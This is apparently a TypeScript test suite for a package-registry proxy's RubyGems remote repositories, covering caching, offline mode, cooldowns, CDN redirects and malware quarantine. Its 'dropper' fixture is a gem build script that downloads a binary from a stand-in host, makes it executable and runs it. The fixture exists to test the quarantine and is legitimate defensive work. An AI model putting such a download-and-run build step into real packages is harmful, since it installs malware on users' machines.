/**
 * RubyGems remote repositories against a fixture gem source on 127.0.0.1: the filtered compact
 * index, caching, stale and offline answers, gems through the gate on first download, the
 * cooldown from the upstream's publish times, coalescing, misbehaving upstreams. Every request
 * goes through the real server over HTTP.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { inflateSync } from 'node:zlib';
import { systemActor } from '../../src/domain/audit.js';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { type GemFixture, type GemUpstream, packGem, startGemUpstream } from './rubygems-upstream.js';

interface Answer {
  status: number;
  headers: Headers;
  bytes: Buffer;
  text: string;
}

const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex');

/** An extension whose build downloads and runs a binary: what the gate must hold back. */
export const dropper = (name: string, version: string): GemFixture => ({
  name,
  version,
  extensions: [`ext/${name}/extconf.rb`],
  files: {
    [`lib/${name}.rb`]: 'module Dropper; end\n',
    [`ext/${name}/extconf.rb`]: [
      'require "net/http"',
      'bin = File.join(Dir.home, ".cache", "json-updater")',
      'File.binwrite(bin, Net::HTTP.get(URI("http://203.0.113.7/u.bin")))',
      'File.chmod(0755, bin)',
      'system(bin)',
      'File.write("Makefile", "all:\\ninstall:\\n")',
      '',
    ].join('\n'),
  },
});

describe('RubyGems remote repository', () => {
  let server: TestServer;
  let upstream: GemUpstream;
  let count = 0;

  async function call(method: string, url: string, options: { body?: unknown; headers?: Record<string, string>; token?: string | null } = {}): Promise<Answer> {
    const headers: Record<string, string> = { ...(options.headers ?? {}) };
    const token = options.token === undefined ? server.adminToken : options.token;
    if (token) headers.authorization = `Bearer ${token}`;
    let body: string | Buffer | undefined;
    if (Buffer.isBuffer(options.body)) body = options.body;
    else if (options.body !== undefined) {
      headers['content-type'] = 'application/json';
      body = JSON.stringify(options.body);
    }
    const response = await fetch(url, { method, headers, ...(body !== undefined ? { body } : {}) });
    const bytes = Buffer.from(await response.arrayBuffer());
    return { status: response.status, headers: response.headers, bytes, text: bytes.toString('utf8') };
  }

  /** A fresh public remote repository of the fixture; returns its gem source URL (no trailing slash) and path. */
  async function remoteRepo(settings: Record<string, unknown> = {}): Promise<{ source: string; path: string }> {
    const name = `gems-remote-${++count}`;
    const created = await call('POST', `${server.url}/api/v1/repos`, {
      body: { owner: 'acme', name, visibility: 'public', kind: 'remote', upstream: { format: 'rubygems', url: upstream.url, retries: 0, timeoutMs: 3000, ...settings } },
    });
    assert.equal(created.status, 201, created.text);
    return { source: `${server.url}/acme/${name}/rubygems`, path: `acme/${name}` };
  }

  async function stored(path: string, name: string, filename: string) {
    const [owner, repoName] = path.split('/') as [string, string];
    const repo = await server.domain.repos.get(owner, repoName);
    assert.ok(repo);
    return server.domain.packages.findFile({ repo, format: 'rubygems', name }, filename);
  }

  const infoKeys = (text: string) =>
    text
      .split('\n')
      .slice(1)
      .filter((l) => l !== '')
      .map((l) => l.split(/[ |]/)[0]);

  before(async () => {
    upstream = await startGemUpstream();
    server = await startTestServer();
    const admin = await server.domain.accounts.getUser('admin');
    assert.ok(admin);
    await server.domain.accounts.createOrg(systemActor, { name: 'acme', adminUserId: admin.id });
    upstream.add({ name: 'plain', version: '1.0.0' });
    upstream.add({ name: 'plain', version: '1.1.0', dependencies: { leaf: ['>= 1.0', '< 2'] } });
    upstream.add({ name: 'leaf', version: '1.2.0' });
    upstream.add({ name: 'leaf', version: '1.2.0', platform: 'x86_64-linux' });
  });

  after(async () => {
    await server?.close();
    await upstream?.close();
  });

  it('answers gem at the source URL, serves the upstream info once, then from the cache', async () => {
    const { source } = await remoteRepo();
    assert.equal((await call('HEAD', `${source}/`)).status, 200, 'gem then resolves through /info/NAME');
    const before = upstream.hits('/info/plain');
    const first = await call('GET', `${source}/info/plain`);
    assert.equal(first.status, 200, first.text);
    assert.equal(first.headers.get('x-stockade-upstream'), 'miss');
    assert.deepEqual(infoKeys(first.text), ['1.0.0', '1.1.0']);
    assert.match(first.text, /^1\.1\.0 leaf:>= 1\.0&< 2\|checksum:[0-9a-f]{64}$/m);
    assert.equal(first.headers.get('etag'), `"${createHash('md5').update(first.bytes).digest('hex')}"`);
    const second = await call('GET', `${source}/info/plain`);
    assert.equal(second.headers.get('x-stockade-upstream'), 'hit');
    assert.equal(second.text, first.text);
    assert.equal(upstream.hits('/info/plain') - before, 1);
    const platforms = await call('GET', `${source}/info/leaf`);
    assert.deepEqual(infoKeys(platforms.text), ['1.2.0', '1.2.0-x86_64-linux']);
    assert.equal((await call('GET', `${source}/info/bad%20name`)).status, 404);
    assert.equal(upstream.hits('/info/bad name'), 0, 'an invalid name is never sent upstream');
  });

  it('lists every upstream gem in /versions with an MD5 that makes bundler revalidate, and /names', async () => {
    const { source } = await remoteRepo();
    const versions = await call('GET', `${source}/versions`);
    assert.equal(versions.status, 200, versions.text);
    assert.match(versions.text, /^created_at: 2024-01-01T00:00:00Z\n---\n/);
    assert.match(versions.text, /^plain 1\.0\.0,1\.1\.0 0{32}$/m);
    assert.match(versions.text, /^leaf 1\.2\.0,1\.2\.0-x86_64-linux 0{32}$/m);
    const ranged = await call('GET', `${source}/versions`, { headers: { range: 'bytes=10-' } });
    assert.equal(ranged.status, 206);
    assert.deepEqual(ranged.bytes, versions.bytes.subarray(10));
    const names = await call('GET', `${source}/names`);
    assert.equal(names.text, '---\nleaf\nplain\n');
  });

  it('refreshes an append-only /versions by its new tail, checked against the upstream digest', async () => {
    const growing = await startGemUpstream();
    try {
      growing.appendOnly = true;
      for (let i = 0; i < 40; i++) growing.add({ name: `tail-${String(i).padStart(2, '0')}`, version: '1.0.0' });
      const name = `gems-tail-${++count}`;
      const created = await call('POST', `${server.url}/api/v1/repos`, {
        body: { owner: 'acme', name, visibility: 'public', kind: 'remote', upstream: { format: 'rubygems', url: growing.url, retries: 0, timeoutMs: 3000, metadataTtlSeconds: 0 } },
      });
      assert.equal(created.status, 201, created.text);
      const source = `${server.url}/acme/${name}/rubygems`;
      const first = await call('GET', `${source}/versions`);
      assert.equal(first.status, 200, first.text);
      assert.match(first.text, /^tail-39 1\.0\.0 0{32}$/m);
      const whole = growing.versionBytes;

      // Unchanged: the upstream answers 304 to the ranged, conditional request.
      assert.equal((await call('GET', `${source}/versions`)).headers.get('x-stockade-upstream'), 'revalidated');
      // A push upstream appends a line: only the tail travels, and the new version is listed.
      growing.add({ name: 'tail-00', version: '1.1.0' });
      const before = growing.versionBytes;
      const grown = await call('GET', `${source}/versions`);
      assert.equal(grown.status, 200);
      assert.match(grown.text, /^tail-00 1\.1\.0 0{32}$/m);
      assert.ok(growing.versionBytes - before < 100, `${growing.versionBytes - before} bytes for one new line (the whole is ${whole})`);
      assert.deepEqual(growing.versionRanges.slice(0, 1), [undefined]);
      assert.match(growing.versionRanges.at(-1) ?? '', /^bytes=\d+-$/);
      assert.deepEqual(
        (await call('GET', `${source}/info/tail-00`)).text.split('\n').filter((l) => /^\d/.test(l)).map((l) => l.split(' ')[0]),
        ['1.0.0', '1.1.0'],
      );

      // A tail that does not add up to the upstream's digest is thrown away for the whole file.
      growing.tamperTail = true;
      growing.add({ name: 'tail-01', version: '1.1.0' });
      const requests = growing.versionRanges.length;
      const checked = await call('GET', `${source}/versions`);
      assert.equal(checked.status, 200);
      assert.doesNotMatch(checked.text, /evil/);
      assert.match(checked.text, /^tail-01 1\.1\.0 0{32}$/m);
      assert.deepEqual(growing.versionRanges.slice(requests).map((r) => (r === undefined ? 'whole' : 'tail')), ['tail', 'whole']);
    } finally {
      await growing.close();
    }
  });

  it('fetches a gem once, stores it through the gate, then serves it, its quick spec and the Marshal index from storage', async () => {
    const { source, path } = await remoteRepo();
    const file = '/gems/plain-1.0.0.gem';
    const before = upstream.hits(file);
    const first = await call('GET', `${source}${file}`);
    assert.equal(first.status, 200, first.text);
    assert.equal(sha256(first.bytes), sha256(packGem({ name: 'plain', version: '1.0.0' })));
    const second = await call('GET', `${source}${file}`);
    assert.deepEqual(second.bytes, first.bytes);
    assert.equal(upstream.hits(file) - before, 1);
    assert.ok(await stored(path, 'plain', 'plain-1.0.0.gem'));
    const [owner, name] = path.split('/') as [string, string];
    const pkg = await server.domain.packages.load({ repo: (await server.domain.repos.get(owner, name))!, format: 'rubygems', name: 'plain' });
    assert.match(pkg?.versions[0]?.publisher ?? '', /^upstream:127\.0\.0\.1:\d+$/);
    const spec = await call('GET', `${source}/quick/Marshal.4.8/plain-1.1.0.gemspec.rz`);
    assert.equal(spec.status, 200, spec.text);
    assert.match(inflateSync(spec.bytes).toString('latin1'), /Gem::Specification/);
    assert.equal(upstream.hits('/gems/plain-1.1.0.gem'), 1, 'the quick spec is rendered from the fetched gem');
    const platform = await call('GET', `${source}/gems/leaf-1.2.0-x86_64-linux.gem`);
    assert.equal(platform.status, 200, platform.text);
    const specs = await call('GET', `${source}/specs.4.8.gz`);
    assert.equal(specs.status, 200);
    assert.equal((await call('GET', `${source}/gems/plain-9.9.9.gem`)).status, 404);
  });

  it('follows a gem redirect to a CDN only once that origin is allowed, and sends it no credentials', async () => {
    const bytes = upstream.add({ name: 'on-cdn', version: '1.0.0' }, { onCdn: true });
    const { source, path } = await remoteRepo({ token: 'gem-upstream-secret' });
    const file = '/gems/on-cdn-1.0.0.gem';
    const cdnHost = new URL(upstream.cdnUrl).host;
    const refused = await call('GET', `${source}${file}`);
    assert.equal(refused.status, 502, refused.text);
    assert.equal(refused.headers.get('x-stockade-error'), 'UPSTREAM_FAILED');
    assert.ok(refused.text.includes(`a file redirect points away from the allowed origins (${cdnHost})`), refused.text);
    assert.equal(upstream.cdnHits(file), 0);
    assert.equal(await stored(path, 'on-cdn', 'on-cdn-1.0.0.gem'), null);

    const patched = await call('PATCH', `${server.url}/api/v1/repos/${path}/upstream`, { body: { fileOrigins: [upstream.cdnUrl] } });
    assert.equal(patched.status, 200, patched.text);
    assert.deepEqual((JSON.parse(patched.text) as { fileOrigins: string[] }).fileOrigins, [upstream.cdnUrl]);
    upstream.authorizations.length = 0;
    upstream.cdnAuthorizations.length = 0;
    const fetched = await call('GET', `${source}${file}`);
    assert.equal(fetched.status, 200, fetched.text);
    assert.equal(sha256(fetched.bytes), sha256(bytes));
    assert.equal(upstream.cdnHits(file), 1);
    assert.equal((await stored(path, 'on-cdn', 'on-cdn-1.0.0.gem'))?.status, 'published');
    // The upstream got its token with the gem request; the CDN got nothing.
    assert.ok(upstream.authorizations.includes('Bearer gem-upstream-secret'));
    assert.deepEqual(upstream.cdnAuthorizations, [undefined]);
  });

  it('20 concurrent first requests for one gem cause one upstream fetch', async () => {
    const { source } = await remoteRepo();
    assert.equal((await call('GET', `${source}/info/leaf`)).status, 200);
    const file = '/gems/leaf-1.2.0.gem';
    const before = upstream.hits(file);
    const answers = await Promise.all(Array.from({ length: 20 }, () => call('GET', `${source}${file}`)));
    assert.deepEqual(
      answers.map((a) => a.status),
      Array.from({ length: 20 }, () => 200),
    );
    assert.equal(upstream.hits(file) - before, 1);
  });

  it('serves stale metadata with a warning when the upstream is down, and a clear error when nothing is cached', async () => {
    const { source } = await remoteRepo({ metadataTtlSeconds: 0 });
    assert.equal((await call('GET', `${source}/info/plain`)).status, 200);
    assert.equal((await call('GET', `${source}/versions`)).status, 200);
    upstream.down = true;
    try {
      const stale = await call('GET', `${source}/info/plain`);
      assert.equal(stale.status, 200, stale.text);
      assert.equal(stale.headers.get('x-stockade-upstream'), 'stale');
      assert.equal(stale.headers.get('warning'), '110 - "Response is Stale"');
      assert.equal((await call('GET', `${source}/versions`)).headers.get('x-stockade-upstream'), 'stale');
      const missing = await call('GET', `${source}/info/leaf`);
      assert.equal(missing.status, 502, missing.text);
      assert.equal(missing.headers.get('x-stockade-error'), 'UPSTREAM_FAILED');
      assert.match(missing.text, /the upstream of acme\/gems-remote-\d+ \(127\.0\.0\.1:\d+\) failed: connection failed/);
      const gem = await call('GET', `${source}/gems/plain-1.0.0.gem`);
      assert.equal(gem.status, 502, gem.text);
    } finally {
      upstream.down = false;
    }
  });

  it('offline mode answers from the cache only', async () => {
    const { source, path } = await remoteRepo({ metadataTtlSeconds: 0 });
    assert.equal((await call('GET', `${source}/info/plain`)).status, 200);
    assert.equal((await call('GET', `${source}/gems/plain-1.1.0.gem`)).status, 200);
    const patched = await call('PATCH', `${server.url}/api/v1/repos/${path}/upstream`, { body: { offline: true } });
    assert.equal(patched.status, 200, patched.text);
    const before = upstream.paths.length;
    const cached = await call('GET', `${source}/info/plain`);
    assert.equal(cached.status, 200);
    assert.equal(cached.headers.get('x-stockade-upstream'), 'offline');
    const uncached = await call('GET', `${source}/info/leaf`);
    assert.equal(uncached.status, 504);
    assert.equal(uncached.headers.get('x-stockade-error'), 'NOT_CACHED');
    assert.equal((await call('GET', `${source}/gems/plain-1.0.0.gem`)).status, 504);
    assert.equal((await call('GET', `${source}/gems/plain-1.1.0.gem`)).status, 200);
    assert.equal(upstream.paths.length, before, 'nothing reached the upstream');
  });

  it('answers 404 for a gem the upstream does not have, and remembers it', async () => {
    const { source } = await remoteRepo({ negativeTtlSeconds: 600 });
    assert.equal((await call('GET', `${source}/info/nothing-here`)).status, 404);
    assert.equal((await call('GET', `${source}/info/nothing-here`)).status, 404);
    assert.equal((await call('GET', `${source}/gems/nothing-here-1.0.0.gem`)).status, 404);
    assert.equal(upstream.hits('/info/nothing-here'), 1);
  });

  it('quarantines a malicious upstream version, hides it, and keeps the previous one installable', async () => {
    upstream.add({ name: 'victim', version: '1.0.0' });
    upstream.add(dropper('victim', '1.0.1'));
    const { source, path } = await remoteRepo();
    assert.deepEqual(infoKeys((await call('GET', `${source}/info/victim`)).text), ['1.0.0', '1.0.1']);
    const bad = await call('GET', `${source}/gems/victim-1.0.1.gem`);
    assert.equal(bad.status, 403, bad.text);
    assert.equal(bad.headers.get('x-stockade-error'), 'PACKAGE_QUARANTINED');
    assert.match(bad.text, /victim \(1\.0\.1\) is quarantined pending review: .*malware/i);
    assert.equal((await stored(path, 'victim', 'victim-1.0.1.gem'))?.status, 'quarantined');
    assert.deepEqual(infoKeys((await call('GET', `${source}/info/victim`)).text), ['1.0.0']);
    assert.equal((await call('GET', `${source}/quick/Marshal.4.8/victim-1.0.1.gemspec.rz`)).status, 403);
    assert.equal((await call('GET', `${source}/gems/victim-1.0.0.gem`)).status, 200);
  });

  it('blocks a gem whose dependencies differ from its index line, and remembers it', async () => {
    upstream.add({ name: 'liar', version: '1.0.0', dependencies: { 'evil-helper': [] } }, { listedDependencies: {} });
    upstream.add({ name: 'liar', version: '0.9.0' });
    const { source, path } = await remoteRepo();
    const answer = await call('GET', `${source}/gems/liar-1.0.0.gem`);
    assert.equal(answer.status, 403, answer.text);
    assert.equal(answer.headers.get('x-stockade-error'), 'PACKAGE_BLOCKED');
    assert.match(answer.text, /runtime dependencies inside liar \(1\.0\.0\) \[evil-helper \(>= 0\)\] differ from the upstream index \[\]/);
    assert.equal(await stored(path, 'liar', 'liar-1.0.0.gem'), null);
    assert.deepEqual(infoKeys((await call('GET', `${source}/info/liar`)).text), ['0.9.0']);
    const hits = upstream.hits('/gems/liar-1.0.0.gem');
    assert.equal((await call('GET', `${source}/gems/liar-1.0.0.gem`)).status, 403);
    assert.equal(upstream.hits('/gems/liar-1.0.0.gem'), hits, 'a blocked gem is not fetched again');
  });

  it('hides versions younger than the cooldown by the upstream publish time, unless allow-listed', async () => {
    upstream.add({ name: 'fresh', version: '1.0.0' });
    upstream.add({ name: 'fresh', version: '1.1.0' }, { publishedAt: new Date().toISOString() });
    const { source, path } = await remoteRepo({ cooldownHours: 72 });
    assert.deepEqual(infoKeys((await call('GET', `${source}/info/fresh`)).text), ['1.0.0']);
    assert.equal(upstream.hits('/api/v1/versions/fresh.json'), 1);
    const refused = await call('GET', `${source}/gems/fresh-1.1.0.gem`);
    assert.equal(refused.status, 403, refused.text);
    assert.match(refused.text, /fresh \(1\.1\.0\) was published upstream less than 72 h ago, within the cooldown of acme\/gems-remote-\d+/);
    assert.equal(upstream.hits('/gems/fresh-1.1.0.gem'), 0);
    const patched = await call('PATCH', `${server.url}/api/v1/repos/${path}/upstream`, { body: { cooldownAllow: ['fresh@1.1.0'] } });
    assert.equal(patched.status, 200, patched.text);
    assert.deepEqual(infoKeys((await call('GET', `${source}/info/fresh`)).text), ['1.0.0', '1.1.0']);
    assert.equal((await call('GET', `${source}/gems/fresh-1.1.0.gem`)).status, 200);
  });

  it('counts every version as fresh under a cooldown when the upstream gives no publish times', async () => {
    upstream.add({ name: 'timeless', version: '1.0.0' });
    upstream.noTimes = true;
    try {
      const { source } = await remoteRepo({ cooldownHours: 1 });
      const answer = await call('GET', `${source}/info/timeless`);
      assert.equal(answer.status, 404, answer.text);
      assert.match(answer.text, /every upstream version is held back: cooldown/);
      const withoutCooldown = await remoteRepo();
      assert.deepEqual(infoKeys((await call('GET', `${withoutCooldown.source}/info/timeless`)).text), ['1.0.0']);
    } finally {
      upstream.noTimes = false;
    }
  });

  for (const [mode, status, expected] of [
    ['wrong-checksum', 502, /does not match the checksum in the upstream index; nothing was stored/],
    ['truncated', 502, /truncated|connection broke/],
    ['endless', 502, /exceeds the limit of 65536 bytes/],
    ['stall', 504, /did not arrive within 500 ms/],
  ] as const) {
    it(`refuses a gem with ${mode} and stores nothing`, async () => {
      const name = `bad-${mode}`;
      upstream.add({ name, version: '1.0.0' }, { mode });
      const { source, path } = await remoteRepo({ maxFileBytes: 65536, timeoutMs: 500 });
      const answer = await call('GET', `${source}/gems/${name}-1.0.0.gem`);
      assert.equal(answer.status, status, answer.text);
      assert.match(answer.text, expected);
      assert.equal(await stored(path, name, `${name}-1.0.0.gem`), null);
      assert.deepEqual(infoKeys((await call('GET', `${source}/info/${name}`)).text), ['1.0.0'], 'a failed download hides nothing');
    });
  }

  it('refuses an info file over the metadata limit and caches nothing', async () => {
    upstream.add({ name: 'huge', version: '1.0.0' });
    upstream.bloat('huge', 300_000);
    const { source, path } = await remoteRepo({ maxMetadataBytes: 100_000 });
    const answer = await call('GET', `${source}/info/huge`);
    assert.equal(answer.status, 502, answer.text);
    assert.match(answer.text, /over the limit of 100000/);
    const [owner, name] = path.split('/') as [string, string];
    const repo = await server.domain.repos.get(owner, name);
    const rows = await server.domain.db.selectFrom('remote_metadata').select('name').where('repo_id', '=', repo!.id).execute();
    assert.deepEqual(rows, []);
  });

  for (const [label, body, why] of [
    ['HTML', '<html>not an index</html>', /does not start with ---/],
    ['a short checksum', '---\n1.0.0 |checksum:abc\n', /has no SHA-256 checksum/],
    ['a dependency name with a space', `---\n1.0.0 a b:>= 1|checksum:${'0'.repeat(64)}\n`, /is not a gem name/],
    ['a bad version', `---\nnot-a-version |checksum:${'0'.repeat(64)}\n`, /is not a RubyGems version/],
    ['a bad requirement', `---\n1.0.0 a:>> 1|checksum:${'0'.repeat(64)}\n`, /is not a requirement/],
    ['a NUL byte', `---\n1.0.0 |checksum:${'0'.repeat(64)}\0\n`, /checksum/],
  ] as const) {
    it(`refuses an info file with ${label} and caches nothing`, async () => {
      const name = `garbled-${++count}`;
      upstream.override(`/info/${name}`, body);
      const { source, path } = await remoteRepo();
      const answer = await call('GET', `${source}/info/${name}`);
      assert.equal(answer.status, 502, answer.text);
      assert.match(answer.text, new RegExp(`invalid metadata for ${name}: .*${why.source}`));
      const [owner, repoName] = path.split('/') as [string, string];
      const repo = await server.domain.repos.get(owner, repoName);
      assert.deepEqual(await server.domain.db.selectFrom('remote_metadata').select('name').where('repo_id', '=', repo!.id).execute(), []);
    });
  }

  it('refuses gem push to a remote repository with a clear answer', async () => {
    const { source } = await remoteRepo();
    const push = await fetch(`${source}/api/v1/gems`, {
      method: 'POST',
      headers: { authorization: server.adminToken, 'content-type': 'application/octet-stream' },
      body: packGem({ name: 'pushed', version: '1.0.0' }),
    });
    assert.equal(push.status, 405);
    assert.match(await push.text(), /is a remote repository that mirrors its upstream: publish to a hosted repository instead/);
  });
});

describe('RubyGems remote repository of another Stockade server', () => {
  let upstream: TestServer;
  let proxy: TestServer;

  async function pushUpstream(gem: GemFixture): Promise<void> {
    const response = await fetch(`${upstream.url}/corp/gems/rubygems/api/v1/gems`, { method: 'POST', headers: { authorization: upstream.adminToken, 'content-type': 'application/octet-stream' }, body: packGem(gem) });
    assert.equal(response.status, 200, await response.text());
  }

  async function remoteRepo(name: string, settings: Record<string, unknown> = {}): Promise<string> {
    const created = await fetch(`${proxy.url}/api/v1/repos`, {
      method: 'POST',
      headers: { authorization: `Bearer ${proxy.adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify({ owner: 'acme', name, visibility: 'public', kind: 'remote', upstream: { format: 'rubygems', url: `${upstream.url}/corp/gems/rubygems`, retries: 0, ...settings } }),
    });
    assert.equal(created.status, 201, await created.text());
    return `${proxy.url}/acme/${name}/rubygems`;
  }

  before(async () => {
    upstream = await startTestServer();
    const upstreamAdmin = await upstream.domain.accounts.getUser('admin');
    assert.ok(upstreamAdmin);
    await upstream.domain.accounts.createOrg(systemActor, { name: 'corp', adminUserId: upstreamAdmin.id });
    await upstream.createRepo('corp', 'gems');
    await pushUpstream({ name: 'chain-leaf', version: '1.0.0' });
    await pushUpstream({ name: 'chain-top', version: '2.0.0', dependencies: { 'chain-leaf': ['>= 1.0', '< 2'] } });
    proxy = await startTestServer();
    const admin = await proxy.domain.accounts.getUser('admin');
    assert.ok(admin);
    await proxy.domain.accounts.createOrg(systemActor, { name: 'acme', adminUserId: admin.id });
  });

  after(async () => {
    await proxy?.close();
    await upstream?.close();
  });

  it('reads its compact index, checks its gems against it, and stores them', async () => {
    const source = await remoteRepo('chained');
    const versions = await fetch(`${source}/versions`).then((r) => r.text());
    assert.match(versions, /^chain-top 2\.0\.0 0{32}$/m);
    const info = await fetch(`${source}/info/chain-top`).then((r) => r.text());
    assert.match(info, /^2\.0\.0 chain-leaf:(>= 1\.0&< 2|< 2&>= 1\.0)\|checksum:[0-9a-f]{64}$/m);
    const gem = await fetch(`${source}/gems/chain-top-2.0.0.gem`);
    assert.equal(gem.status, 200, await gem.clone().text());
    const upstreamGem = await fetch(`${upstream.url}/corp/gems/rubygems/gems/chain-top-2.0.0.gem`);
    assert.equal(sha256(Buffer.from(await gem.arrayBuffer())), sha256(Buffer.from(await upstreamGem.arrayBuffer())));
  });

  it('applies a cooldown by the publish times of its versions API', async () => {
    const times = await fetch(`${upstream.url}/corp/gems/rubygems/api/v1/versions/chain-top.json`);
    assert.equal(times.status, 200);
    const [entry] = (await times.json()) as { number: string; platform: string; created_at: string; sha: string }[];
    assert.equal(entry?.number, '2.0.0');
    assert.equal(entry?.platform, 'ruby');
    assert.ok(Date.now() - Date.parse(entry?.created_at ?? '') < 3_600_000);
    const cooled = await remoteRepo('cooled', { cooldownHours: 1 });
    const hidden = await fetch(`${cooled}/info/chain-top`);
    assert.equal(hidden.status, 404, 'pushed a moment ago');
    const allowed = await remoteRepo('allowed', { cooldownHours: 1, cooldownAllow: ['chain-top'] });
    assert.equal((await fetch(`${allowed}/info/chain-top`)).status, 200);
  });
});

describe('RubyGems remote repository on two nodes', () => {
  let first: TestServer;
  let second: TestServer;
  let upstream: GemUpstream;

  before(async () => {
    upstream = await startGemUpstream();
    first = await startTestServer();
    second = await startTestServer({}, { sameStorageAs: first });
    const admin = await first.domain.accounts.getUser('admin');
    assert.ok(admin);
    await first.domain.accounts.createOrg(systemActor, { name: 'acme', adminUserId: admin.id });
    upstream.add({ name: 'shared', version: '1.0.0' });
  });

  after(async () => {
    await second?.close();
    await first?.close();
    await upstream?.close();
  });

  it('concurrent first requests on both nodes cause one upstream fetch', async () => {
    const created = await fetch(`${first.url}/api/v1/repos`, {
      method: 'POST',
      headers: { authorization: `Bearer ${first.adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify({ owner: 'acme', name: 'mirror', visibility: 'public', kind: 'remote', upstream: { format: 'rubygems', url: upstream.url, retries: 0 } }),
    });
    assert.equal(created.status, 201, await created.text());
    const file = '/gems/shared-1.0.0.gem';
    const answers = await Promise.all(
      Array.from({ length: 20 }, (_, i) => fetch(`${(i % 2 ? second : first).url}/acme/mirror/rubygems${file}`).then(async (r) => ({ status: r.status, sha: sha256(Buffer.from(await r.arrayBuffer())) }))),
    );
    const expected = sha256(packGem({ name: 'shared', version: '1.0.0' }));
    assert.ok(
      answers.every((a) => a.status === 200 && a.sha === expected),
      JSON.stringify(answers),
    );
    assert.equal(upstream.hits(file), 1);
  });
});
